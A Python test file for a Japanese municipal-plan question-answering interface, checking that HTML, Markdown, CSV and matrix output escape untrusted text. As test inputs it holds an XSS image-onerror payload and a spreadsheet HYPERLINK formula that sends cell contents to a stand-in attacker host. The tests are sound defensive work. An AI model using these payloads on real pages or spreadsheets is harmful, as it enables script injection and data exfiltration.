"""Rendering is escaped everywhere: source HTML fragments and user input stay text."""

import csv
import html
import io
import string

from markdown_it import MarkdownIt

from ui.render import (FORMULA_START, answer_csv, answer_html, chat_reply, citations_html, context_of, highlight, md_text,
                       status_rows)

ATTACK = "<img src=x onerror=alert(1)>"


def _answer(text=ATTACK, found=True):
    cite = {"rank": 1, "score": 0.1, "chunk_id": "d:0-20", "doc_id": "d", "city": "根室市", "section": "第1章 <b>概要</b>",
            "text": f"コンビニ交付 {text}", "start": 0, "end": 20, "bm25_rank": 1, "dense_rank": 1, "doc_title": "計画",
            "quotes": [{"text": f"コンビニ交付 {text}", "start": 0, "end": 20}], "status": "planned"}
    cites = [cite] if found else []
    cities = [{"city": "根室市", "status": "planned", "status_label": "計画（継続）", "summary": text, "citations": cites}] if found else []
    return {"question": text, "found": found, "answer": f"回答 {text}", "cities": cities, "citations": cites, "notices": [text]}


def test_highlight_escapes_and_marks():
    out = highlight("<b>コンビニ交付</b>の導入", ["コンビニ", "交付"])
    assert out == "&lt;b&gt;<mark>コンビニ</mark><mark>交付</mark>&lt;/b&gt;の導入"
    assert highlight(ATTACK, []) == "&lt;img src=x onerror=alert(1)&gt;"


def test_no_live_markup_from_text():
    answer = _answer()
    page = answer_html(answer) + citations_html(answer, {"d": f"前 {ATTACK} 後" * 3}, ["コンビニ"])
    assert "<img" not in page and "<b>概要" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "計画" in page  # status shown in Japanese
    assert "<img" not in chat_reply(answer)


def test_context_marks_the_passage_inside_its_surroundings():
    source = "あ" * 500 + "PASSAGE" + "い" * 500
    out = context_of(source, 500, 507, [])
    assert out.count("…") == 2 and '<span class="passage">PASSAGE</span>' in out


def test_status_table_and_csv():
    answer = _answer("住民票")
    assert status_rows(answer) == [["根室市", "計画（継続）", "住民票", "第1章 <b>概要</b>"]]  # a table cell is text, not HTML
    rows = list(csv.reader(io.StringIO(answer_csv(answer))))
    assert rows[0][:3] == ["question", "found", "city"] and rows[1][2] == "根室市" and rows[1][6] == "d"


def test_not_found_reply_says_so():
    reply = chat_reply(_answer(found=False))
    assert "見つかりませんでした" in reply
    rows = list(csv.reader(io.StringIO(answer_csv(_answer(found=False)))))
    assert len(rows) == 2 and rows[1][1] == "False"


def test_csv_cells_never_start_a_formula():
    answer = _answer('=HYPERLINK("http://evil.example/?q="&A1,"詳しくはこちら")')
    cite = answer["citations"][0]
    cite.update(city="=1+1", doc_title="+SUM(A1:A9)", section="-2+3", doc_id="@cmd", text="\tTAB",
                quotes=[{"text": "\rCR", "start": 0, "end": 1}])
    rows = list(csv.reader(io.StringIO(answer_csv(answer))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    question, found, city, status, title, section, doc_id, start, end, quotes, text = rows[1]
    assert question == '\'=HYPERLINK("http://evil.example/?q="&A1,"詳しくはこちら")'  # the words kept, behind one quote
    assert (city, title, section, doc_id, text, quotes) == ("'=1+1", "'+SUM(A1:A9)", "'-2+3", "'@cmd", "'\tTAB", "'\rCR")
    assert (found, start, end, status) == ("True", "0", "20", "planned")  # numbers and plain text untouched
    not_found = list(csv.reader(io.StringIO(answer_csv(_answer("-1", found=False)))))
    assert not_found[1][0] == "'-1" and not_found[1][-1] == "回答 -1"


PLAN_MARKUP = ("![x](http://127.0.0.1:9/b.png) [link](http://127.0.0.1:9/x) <img src=http://127.0.0.1:9/c.png> "
               "www.example.jp a@b.jp $$x$$ **太字** # 見出し")


def test_markdown_from_text_renders_as_the_same_text():
    md = MarkdownIt("commonmark")
    for text in [PLAN_MARKUP, string.punctuation, "1. 項目\n- 箇条\n> 引用\n```code```", ATTACK]:
        out = md.renderInline(md_text(text))
        assert "<img" not in out and "<a " not in out
        assert html.unescape(out) == text  # shown exactly as written: nothing dropped, nothing live


def test_chat_reply_keeps_plan_markup_inert_and_shows_notices():
    answer = _answer(PLAN_MARKUP)
    answer["notices"] = ["質問が長いため、先頭の2000文字だけで検索しました"]
    reply = chat_reply(answer)
    out = MarkdownIt("commonmark").render(reply)
    assert "<img" not in out and "<a " not in out and "<h1" not in out
    assert "http://127.0.0.1:9/b.png" in html.unescape(out)  # the plan's words are there, as text
    assert "<strong>根室市</strong>" in out  # the reply's own Markdown still works
    assert "先頭の2000文字" in reply and "先頭の2000文字" in chat_reply(_answer(found=False) | {"notices": answer["notices"]})


def test_read_in_context_shows_text_not_markup():
    source = "前の段落<p>です。</p>\n**コンビニ交付**の | 導入 |\n<div>後の 段落</div>"
    out = context_of(source, source.index("**"), source.index("\n<div>"), ["コンビニ"])
    assert "&lt;p&gt;" not in out and "**" not in out and "&lt;div&gt;" not in out and "|" not in out
    assert "前の段落です。" in out and "<mark>コンビニ</mark>交付の導入" in out and "後の段落" in out


def test_pdf_citations_show_their_page():
    answer = _answer("本文")
    answer["citations"][0].update(page=12, page_end=13)
    assert "p. 12–13" in citations_html(answer, {"d": "コンビニ交付 本文" * 3}, [])
    answer["citations"][0].update(page=None, page_end=None)
    assert "p. " not in citations_html(answer, {"d": "コンビニ交付 本文" * 3}, [])


def _citizen_answer():
    """根室市 as the plan has it: the heading line quoted from two chunks of one section, the sentence once."""
    heading = {"text": "住民票等の「コンビニ交付サービス」の構築【継続】", "start": 100, "end": 124}
    sentence = {"text": "施策の概要 / 最寄りのコンビニエンスストアで取得することができるようにします。", "start": 129, "end": 170}
    base = {"rank": 1, "score": 0.1, "doc_id": "000", "city": "根室市", "doc_title": "第3次計画", "status": "planned",
            "bm25_rank": 1, "dense_rank": 1}
    first = base | {"chunk_id": "000:100-300", "section": "第6章 > 住民票等の「コンビニ交付サービス」の構築【継続】",
                    "text": "住民票等の…", "start": 100, "end": 300, "quotes": [heading, sentence]}
    second = base | {"chunk_id": "000:20-60", "section": "第6章 > 基本目標3", "text": "住民票等の…", "start": 20, "end": 60,
                     "quotes": [{"text": heading["text"] + "。", "start": 30, "end": 54}]}
    city = {"city": "根室市", "status": "planned", "status_label": "計画（継続）", "summary": "", "citations": [first, second],
            "previous_status": "not_introduced"}
    return {"question": "住民票はコンビニで取れる？", "found": True, "answer": "", "cities": [city], "citations": [first, second]}


def test_citizen_reply_for_one_city_says_the_status_and_quotes_the_sentence_once():
    reply = chat_reply(_citizen_answer(), ["根室市"])
    lines = [line for line in reply.splitlines() if line.strip()]
    assert "**根室市**" in lines[0] and "計画中" in lines[0] and "前計画では未導入" in lines[0]
    quotes = [line for line in lines if line.startswith("- 「")]
    assert quotes[0].endswith("できるようにします。」") and len(quotes) == 2  # the sentence first, the heading once
    assert len(lines) == len(set(lines)) and reply.count("コンビニ交付サービス」の構築") == 2  # the quote and its source
    assert reply.count("出典") == 1 and reply.count("第3次計画") == 1


def test_citizen_reply_without_evidence_says_kisai_nashi():
    answer = _citizen_answer() | {"found": False, "cities": [], "citations": []}
    assert "**東御市**" in chat_reply(answer, ["東御市"]) and "記載なし" in chat_reply(answer, ["東御市"])
    survey = _citizen_answer()
    for c in survey["cities"][0]["citations"]:
        c["section"] = "第6章 > 3. 調査結果 > (7) その他ご意見"
    reply = chat_reply(survey, ["根室市"])
    assert "市の取り組みとしての記述は見つかりませんでした（記載なし）" in reply and "アンケート" in reply


def test_matrix_html_is_escaped_coloured_and_opens_to_its_evidence():
    from assistant.matrix import COLOURS
    from ui.matrix_view import matrix_html

    ref = {"doc_id": "000", "doc_title": "計画", "section": f"第6章 {ATTACK}", "start": 5, "end": 9, "quote": ATTACK,
           "page": 12, "page_end": 12, "passage_start": 0, "passage_end": 20}
    cells = [{"topic": ATTACK, "city": "根室市", "listed": True, "status": "planned", "kind": "planned", "label": "計画（継続）",
              "evidence": ATTACK, "citation": ref, "nearest": None, "reason": "", "previous": "未導入"},
             {"topic": ATTACK, "city": "東御市", "listed": False, "status": None, "kind": "empty", "label": "",
              "evidence": "", "citation": None, "nearest": ref, "reason": "「テレワーク」の記述ではない", "previous": ""}]
    out = matrix_html({"topics": [ATTACK], "cities": ["根室市", "東御市"], "cells": cells, "status_only": False})
    assert "<img" not in out
    assert out.count("&lt;img src=x onerror=alert(1)&gt;") == 7  # topic (header, 2 data-topic), 2 quotes, 2 sections
    assert 'class="cell st-planned"' in out and f"background:#{COLOURS['planned']}" in out
    assert out.count("<details>") == 2 and "前計画では未導入" in out and "p. 12" in out and "#page=12" in out
    assert "近い記述" in out and "理由：「テレワーク」の記述ではない" in out and 'aria-label="記載なし' in out
    assert all(SHORT_LABEL in out for SHORT_LABEL in ("実施済", "計画", "検討中", "未導入", "記載なし（状況不明）"))  # the legend
